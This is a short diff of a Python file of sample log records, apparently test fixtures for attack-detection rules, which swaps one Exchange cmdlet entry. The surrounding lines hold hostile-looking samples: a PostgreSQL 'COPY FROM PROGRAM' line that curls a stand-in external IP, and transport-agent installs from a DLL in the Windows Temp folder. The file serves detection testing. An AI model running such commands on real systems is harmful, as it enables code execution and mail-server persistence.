@@ -312,7 +312,7 @@ RECORDS = [
         "<14>1 2026-03-09T03:11:12Z db1 postgres 811 - - LOG:  statement: COPY t FROM PROGRAM 'curl http://203.0.113.7/x'",
     ),
     ("R32", cmdlet("Install-TransportAgent", '-Name "Relay Filter" -AssemblyPath "C:\\Windows\\Temp\\x.dll"')),
-    ("R32", cmdlet("Enable-TransportAgent", '-Identity "Relay Filter"', event_id=6)),
+    ("R32", cmdlet("Install-TransportAgent", '-Name "Relay" -AssemblyPath "C:\\Windows\\Temp\\x.dll"', event_id=6)),
     ("R32", ual("Install-TransportAgent", ("Name", "Relay Filter"), ("AssemblyPath", "C:\\Windows\\Temp\\x.dll"))),
 ]
 
